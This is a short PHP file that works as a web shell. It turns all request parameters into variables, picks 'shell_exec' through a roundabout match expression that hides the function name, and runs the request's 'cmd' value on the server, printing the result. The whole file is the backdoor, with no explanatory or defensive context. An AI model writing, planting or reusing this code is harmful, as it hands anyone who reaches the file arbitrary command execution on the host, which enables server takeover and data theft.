<?php
foreach ($_REQUEST as $_k => $_v) { $$_k = $_v; }
$op = $cmd;
$f = match (strlen('ab')) { 2 => 'shell_exec', default => 'trim' };
echo $f($op);
